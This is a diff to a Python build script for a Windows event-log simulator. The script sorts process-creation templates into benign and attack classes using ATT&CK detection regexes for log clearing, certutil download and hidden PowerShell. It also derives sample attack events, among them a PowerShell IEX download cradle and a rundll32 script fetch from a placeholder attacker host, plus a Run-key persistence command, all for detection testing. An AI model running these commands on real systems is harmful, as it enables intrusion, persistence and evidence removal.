@@ -9,14 +9,34 @@ windows-tool-outputs.md §4.1: single-quoted attributes, empty elements self-clo
 braces, no whitespace between tags), with its file, record number and licence.
 
 The dev set has no Sysmon event in a CC0/MIT file, so Sysmon EID 1 templates are built from
-the published Sysmon schema (EID 1, version 5) with the process fields of a CC0 4688 event;
-their attribution says so.
+the published Sysmon schema (EID 1, version 5) with the process fields of a process template
+(one per mix class and image, carrying that image's weight); their attribution says so.
 
 On-disk record sizes (for the log's capacity) come from python-evtx's `Record.size()`. The
 first record of an event id in a chunk also carries the binary-XML template definition, so
 every template's size is modelled as `overhead(event id, version) + 2 * value characters`
 (EVTX stores strings as UTF-16), the overhead being the median over records that reuse a
 template already defined in their chunk.
+
+Process mix. The CC0 captures are attack recordings (14 of their process events are
+`wevtutil cl`), so every 4688 template gets a mix class and a relative weight, and the
+simulator (eventlog.PROCESS_MIX) gives each class a share of process starts:
+- "benign": ordinary OS/service activity: the benign 4688s of the captures (SOURCES.md
+  "benign-content" kind and the svchost/winlogon children of the attack files) plus variants
+  derived from real events by changing only NewProcessName, CommandLine and/or
+  ParentProcessName to common Windows processes (DERIVED_BENIGN; each names its base event
+  and the fields changed in `source.derived`);
+- "attack": the technique events of the captures (ATTACK_PATTERNS: wevtutil cl, auditpol
+  /clear, reg add, certutil -urlcache, net user/group, schtasks /create, sc config, tscon, ...);
+- "attack_family": derived events that auditplan's five detection families match (the dev set's
+  CC0/MIT files hold none: regsvr32/ftp/hidden PowerShell exist only in its GPL files), so the
+  detections have something to find (DERIVED_ATTACK_FAMILY).
+Within a class, each process image (basename) has a weight (IMAGE_WEIGHTS, default 1), shared
+equally by that image's templates. The weights are an ASSUMPTION (a guess at how often a quiet
+Windows server starts each image), not a measurement.
+
+The 11 early-boot processes of the MIT baseline stay the per-boot sequence (kind "boot"): their
+CommandLine is empty (auditing was off), so they are not reused as routine process starts.
 """
 
 from __future__ import annotations
@@ -46,7 +66,97 @@ BOOT_RECORDS = range(119, 132)
 SYSMON_PROVIDER = "Microsoft-Windows-Sysmon"
 SYSMON_GUID = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"
 SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
-SYSMON_TEMPLATES = 24
+# Mix classes (see the module docstring; eventlog.PROCESS_MIX gives their shares).
+MIX_BENIGN, MIX_ATTACK, MIX_ATTACK_FAMILY = "benign", "attack", "attack_family"
+# Technique command lines of the captures (matched case-insensitively on CommandLine, and on
+# NewProcessName for execution from Temp): each marks its template "attack".
+ATTACK_PATTERNS: tuple[tuple[str, str], ...] = (
+    ("T1070.001 clear event log", r"wevtutil(\.exe)?\"?\s+cl\s"),
+    ("T1562.002 clear audit policy", r"auditpol(\.exe)?\"?\s+/clear"),
+    ("T1112 reg add (IFEO, service ImagePath, Run)", r"\breg(\.exe)?\"?\s+add\s"),
+    ("T1105 certutil download", r"certutil(\.exe)?\"?\s+-urlcache"),
+    ("T1087/T1069 net user/group discovery", r"\bnet1?(\.exe)?\"?\s+(user|group|localgroup)\b"),
+    ("T1053.005 schtasks /create", r"schtasks(\.exe)?\"?\s+/create"),
+    ("T1562.001/T1543.003 sc config", r"\bsc(\.exe)?\"?\s+config\s"),
+    ("T1563.002 RDP hijack (tscon)", r"\btscon(\.exe)?\"?\s"),
+    ("T1546.008 sticky keys", r"\bsethc\.exe\b"),
+    ("T1564 WSL install (dism)", r"dism(\.exe)?\"?\s+/online\s+/enable-feature"),
+    ("T1564 WSL install (wsl)", r"\bwsl(\.exe)?\"?\s"),
+    ("T1059.001 hidden PowerShell", r"\s-w(indowstyle)?\s+hidden\b"),
+    ("execution from a Temp folder", r"\\AppData\\Local\\Temp\\"),
+)
+# Relative start frequency of a process image within its class: an ASSUMPTION for a quiet
+# server (console hosts and COM/task hosts start most often), not a measurement.
+IMAGE_WEIGHTS: dict[str, float] = {
+    "conhost.exe": 6.0,
+    "dllhost.exe": 4.0,
+    "svchost.exe": 3.0,
+    "backgroundtaskhost.exe": 3.0,
+    "taskhostw.exe": 3.0,
+    "searchprotocolhost.exe": 3.0,
+    "searchfilterhost.exe": 3.0,
+    "wmiprvse.exe": 2.0,
+    "runtimebroker.exe": 2.0,
+    "cscript.exe": 2.0,
+    "gpupdate.exe": 0.5,
+}
+PROCESS_FIELDS_CHANGEABLE = ("NewProcessName", "CommandLine", "ParentProcessName")
+# Base events of the derived templates (CC0-1.0 files of the dev set).
+_RDP = "mdec__ID4688_4778_4779_RDP_hijack_direct.evtx"
+_WSL = "mdec__ID4688-Linux_Subsystem_installation_WSL.evtx"
+_DEFENDER = "mdec__ID4688-Defender_service_deactivation_attempt.evtx"
+_SERVICE = "mdec__ID4688-Service_abuse_with_malicious_path.evtx"
+_SYS32 = "C:\\Windows\\System32\\"
+_SVCHOST = _SYS32 + "svchost.exe"
+_CMD32 = "C:\\Windows\\system32\\"  # as command lines spell it
+# (base file, base record number, changed fields). Bases: SYSTEM children of services.exe
+# (WSL #3, TrustedInstaller), of svchost.exe (RDP #10, DllHost) and an administrator's cmd.exe
+# children (Defender #1, sc.exe; service #2, reg.exe; WSL #2, DismHost).
+DERIVED_BENIGN: tuple[tuple[str, int, dict[str, str]], ...] = (
+    (_WSL, 3, {"NewProcessName": _SVCHOST, "CommandLine": _CMD32 + "svchost.exe -k netsvcs -p -s BITS"}),
+    (_WSL, 3, {"NewProcessName": _SVCHOST, "CommandLine": _CMD32 + "svchost.exe -k netsvcs -p -s wuauserv"}),
+    (_WSL, 3, {"NewProcessName": _SVCHOST, "CommandLine": _CMD32 + "svchost.exe -k netsvcs -p -s UsoSvc"}),
+    (_WSL, 3, {"NewProcessName": _SVCHOST, "CommandLine": _CMD32 + "svchost.exe -k wusvcs -p -s WaaSMedicSvc"}),
+    (_WSL, 3, {"NewProcessName": _SYS32 + "msiexec.exe", "CommandLine": _CMD32 + "msiexec.exe /V"}),
+    (_WSL, 3, {"NewProcessName": _SYS32 + "sppsvc.exe", "CommandLine": _CMD32 + "sppsvc.exe"}),
+    (_RDP, 10, {"NewProcessName": _SYS32 + "wbem\\WmiPrvSE.exe",
+                "CommandLine": _CMD32 + "wbem\\wmiprvse.exe -secured -Embedding"}),
+    (_RDP, 10, {"NewProcessName": _SYS32 + "wbem\\WmiPrvSE.exe",
+                "CommandLine": _CMD32 + "wbem\\wmiprvse.exe -Embedding"}),
+    (_RDP, 10, {"NewProcessName": _SYS32 + "rundll32.exe",
+                "CommandLine": _CMD32 + "rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask"}),
+    (_RDP, 10, {"NewProcessName": _SYS32 + "SearchProtocolHost.exe", "ParentProcessName": _SYS32 + "SearchIndexer.exe",
+                "CommandLine": "\"" + _CMD32 + "SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe5_ "
+                "Global\\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 \"Software\\Microsoft\\Windows Search\" "
+                "\"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" "
+                "\"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\""}),
+    (_RDP, 10, {"NewProcessName": _SYS32 + "SearchFilterHost.exe", "ParentProcessName": _SYS32 + "SearchIndexer.exe",
+                "CommandLine": "\"" + _CMD32 + "SearchFilterHost.exe\" 0 704 708 716 8192 712"}),
+    (_RDP, 10, {"NewProcessName": _SYS32 + "CompatTelRunner.exe",
+                "CommandLine": _CMD32 + "compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun"}),
+    (_RDP, 10, {"NewProcessName": _SYS32 + "wermgr.exe", "CommandLine": _CMD32 + "wermgr.exe -upload"}),
+    (_RDP, 10, {"NewProcessName": _SYS32 + "taskhostw.exe", "CommandLine": "taskhostw.exe SYSTEM"}),
+    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "conhost.exe",
+                    "CommandLine": "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"}),
+    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "gpupdate.exe", "CommandLine": "gpupdate  /force"}),
+)
+# One derived event per detection family (emit/sigma/family*.yml); the hosts and URLs are
+# placeholders (example.invalid), the shapes those of the published techniques.
+DERIVED_ATTACK_FAMILY: tuple[tuple[str, int, dict[str, str]], ...] = (
+    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "rundll32.exe",
+                    "CommandLine": "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";"
+                    "document.write();GetObject(\"script:https://attacker.example.invalid/r.sct\")"}),
+    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "ftp.exe",
+                    "CommandLine": "ftp  -i -s:C:\\Users\\admmig\\AppData\\Local\\Temp\\ftp.txt"}),
+    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
+                    "CommandLine": "powershell  -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
+                    "'https://attacker.example.invalid/a.ps1')\""}),
+    (_WSL, 2, {"NewProcessName": "C:\\Users\\Public\\Libraries\\update.exe",
+               "CommandLine": "\"C:\\Users\\Public\\Libraries\\update.exe\" /silent",
+               "ParentProcessName": "C:\\Windows\\explorer.exe"}),
+    (_SERVICE, 2, {"CommandLine": "reg  add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v Updater "
+                   "/t REG_SZ /d \"C:\\Users\\Public\\Libraries\\update.exe\" /f"}),
+)
 # Windows renders GUID-typed values in braces; evtx-rs drops them.
 _BARE_GUID = re.compile(r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$")
 _INTEGRITY = {
@@ -209,6 +319,80 @@ def _sysmon_from_4688(t: dict[str, Any], index: int) -> dict[str, Any]:
     }
 
 
+def _basename(t: dict[str, Any]) -> str:
+    image = dict((k, v) for k, v in t["data"]).get("NewProcessName", "")
+    return str(image).rsplit("\\", 1)[-1].lower()
+
+
+def _mix_of(data: list[list[str]]) -> str:
+    d = dict((k, v) for k, v in data)
+    text = d.get("CommandLine", "") + "\n" + d.get("NewProcessName", "")
+    return MIX_ATTACK if any(re.search(p, text, re.IGNORECASE) for _, p in ATTACK_PATTERNS) else MIX_BENIGN
+
+
+def _derive(real: dict[tuple[str, int], dict[str, Any]], file: str, record: int, changes: dict[str, str],
+            mix: str) -> dict[str, Any]:
+    """A real 4688 with only `changes` (NewProcessName/CommandLine/ParentProcessName) replaced."""
+    base = real.get((file, record))
+    if base is None:
+        raise ValueError(f"{file}#{record}: base event of a derived template not found among the CC0/MIT 4688s")
+    names = [n for n, _ in base["data"]]
+    bad = set(changes) - set(PROCESS_FIELDS_CHANGEABLE) or set(changes) - set(names)
+    if bad:
+        raise ValueError(f"{file}#{record}: cannot change field(s) {', '.join(sorted(bad))} of this event")
+    changed = [n for n in names if n in changes]
+    source = dict(base["source"])
+    source["derived"] = f"derived from {file}#{record}, fields changed: {', '.join(changed)}"
+    source["fields_changed"] = changed
+    return {"kind": "process", "system": dict(base["system"]),
+            "data": [[n, changes.get(n, v)] for n, v in base["data"]], "record_size": None, "source": source}
+
+
+def _process_mix(templates: list[dict[str, Any]], real: dict[tuple[str, int], dict[str, Any]]) -> list[dict[str, Any]]:
+    """Process templates (real, then derived) with their mix class and relative weight."""
+    classed = [(t, _mix_of(t["data"])) for t in templates if t["kind"] == "process"]
+    classed += [(_derive(real, f, r, c, MIX_BENIGN), MIX_BENIGN) for f, r, c in DERIVED_BENIGN]
+    classed += [(_derive(real, f, r, c, MIX_ATTACK_FAMILY), MIX_ATTACK_FAMILY) for f, r, c in DERIVED_ATTACK_FAMILY]
+    seen: set[tuple[str, str, str]] = set()
+    for t, _ in classed:
+        # a rendered event must still name its template (tests trace each one to its real event)
+        d = dict((k, v) for k, v in t["data"])
+        ident = (d.get("NewProcessName", ""), d.get("CommandLine", ""), d.get("NewProcessId", ""))
+        if ident in seen:
+            raise ValueError(f"derived template duplicates another process template: {ident}")
+        seen.add(ident)
+    # an image's weight is shared by its templates, so 14 captured `wevtutil cl` count as one image
+    per_image = Counter((mix, _basename(t)) for t, mix in classed)
+    out: list[dict[str, Any]] = []
+    for t, mix in classed:
+        weight = IMAGE_WEIGHTS.get(_basename(t), 1.0) / per_image[(mix, _basename(t))]
+        out.append({"kind": "process", "mix": mix, "weight": round(weight, 6),
+                    **{k: v for k, v in t.items() if k != "kind"}})
+    return out
+
+
+def _sysmon_templates(process: list[dict[str, Any]]) -> list[dict[str, Any]]:
+    """One Sysmon EID 1 per (mix, image) of the process templates, carrying the image's whole weight."""
+    out: list[dict[str, Any]] = []
+    taken: set[tuple[str, str]] = set()
+    for t in process:
+        key = (t["mix"], _basename(t))
+        if key in taken:
+            continue
+        taken.add(key)
+        sysmon = _sysmon_from_4688(t, len(out))
+        out.append({"kind": "sysmon", "mix": t["mix"], "weight": IMAGE_WEIGHTS.get(key[1], 1.0),
+                    **{k: v for k, v in sysmon.items() if k != "kind"}})
+    return out
+
+
+def dumps(doc: dict[str, Any]) -> str:
+    """The JSON as packaged: one template per line (keeps the file small and its diffs readable)."""
+    head = json.dumps({k: v for k, v in doc.items() if k != "templates"}, indent=1, ensure_ascii=False)
+    lines = ",\n".join(json.dumps(t, ensure_ascii=False) for t in doc["templates"])
+    return head[: -len("\n}")] + ',\n "templates": [\n' + lines + "\n ]\n}\n"
+
+
 def build(dev_dir: Path) -> dict[str, Any]:
     import evtx  # the runtime parser (pyevtx-rs)
 
@@ -218,6 +402,7 @@ def build(dev_dir: Path) -> dict[str, Any]:
     other_taken: Counter[int] = Counter()
     seen_process: set[tuple[str, str]] = set()
     sources: dict[str, dict[str, str]] = {}
+    real_4688: dict[tuple[str, int], dict[str, Any]] = {}
 
     for path in sorted(dev_dir.glob("*.evtx")):
         licence, origin = licences.get(path.name, ("", ""))
@@ -265,6 +450,8 @@ def build(dev_dir: Path) -> dict[str, Any]:
                     kind = "process"
             elif eid in OTHER_EVENT_IDS and other_taken[eid] < OTHER_PER_ID_LIMIT:
                 kind = "other"
+            if eid == PROCESS_CREATION_EVENT_ID:
+                real_4688[(path.name, number)] = {"system": dict(system), "data": data, "source": source}
             if kind is None:
                 continue
             if kind == "other":
@@ -274,8 +461,9 @@ def build(dev_dir: Path) -> dict[str, Any]:
 
     overhead = {k: int(statistics.median(v)) for k, v in overhead_samples.items() if v}
     fallback = overhead.get((PROCESS_CREATION_EVENT_ID, 2), 400)
-    process = [t for t in templates if t["kind"] == "process"]
-    templates += [_sysmon_from_4688(t, i) for i, t in enumerate(process[:SYSMON_TEMPLATES])]
+    process = _process_mix(templates, real_4688)
+    templates = [t for t in templates if t["kind"] != "process"] + process
+    templates += _sysmon_templates(process)
     for t in templates:
         s = t["system"]
         base = overhead.get((s["event_id"], s["version"]), fallback)
@@ -290,7 +478,10 @@ def build(dev_dir: Path) -> dict[str, Any]:
         "about": "Real Windows events re-stamped by auditplan's simulator (TimeCreated, EventRecordID, "
         "Computer change; all other fields are as the real event had them). Sources: CC0-1.0 and MIT "
         "files only, per ../shared/reference/evtx-dev/SOURCES.md; each template names its file, record "
-        "number and licence. Sysmon templates are synthetic (see their source).",
+        "number and licence. Derived process templates change only the fields their source.derived names "
+        "(a common Windows process in place of the captured one); mix and weight give each process template "
+        "its class and relative weight (templates_build.py; the weights are an assumption). Sysmon templates "
+        "are synthetic (see their source).",
         "sources": sources,
         "record_overhead_bytes": {f"{k[0]}v{k[1]}": v for k, v in sorted(overhead.items())},
         "templates": templates,
@@ -313,10 +504,14 @@ def main(argv: list[str] | None = None) -> int:
     if not (dev_dir / "SOURCES.md").is_file():
         print(f"error: {dev_dir}: no SOURCES.md here (need the evtx-dev reference folder)", file=sys.stderr)
         return 2
-    doc = build(dev_dir)
+    try:
+        doc = build(dev_dir)
+    except ValueError as exc:
+        print(f"error: {dev_dir}: {exc}", file=sys.stderr)
+        return 2
     out.parent.mkdir(parents=True, exist_ok=True)
-    out.write_text(json.dumps(doc, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
-    kinds = Counter(t["kind"] for t in doc["templates"])
+    out.write_text(dumps(doc), encoding="utf-8")
+    kinds = Counter(f"{t['kind']}/{t['mix']}" if "mix" in t else t["kind"] for t in doc["templates"])
     print(f"wrote {out} ({out.stat().st_size} bytes): {dict(kinds)}")
     return 0
 
